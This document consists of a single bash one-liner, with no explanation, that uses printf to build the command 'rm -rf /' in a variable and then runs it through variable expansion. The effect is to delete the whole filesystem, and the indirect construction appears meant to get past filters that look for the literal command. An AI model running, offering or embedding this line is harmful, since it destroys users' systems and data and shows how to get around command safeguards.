printf -v c 'rm -rf %s' /; $c
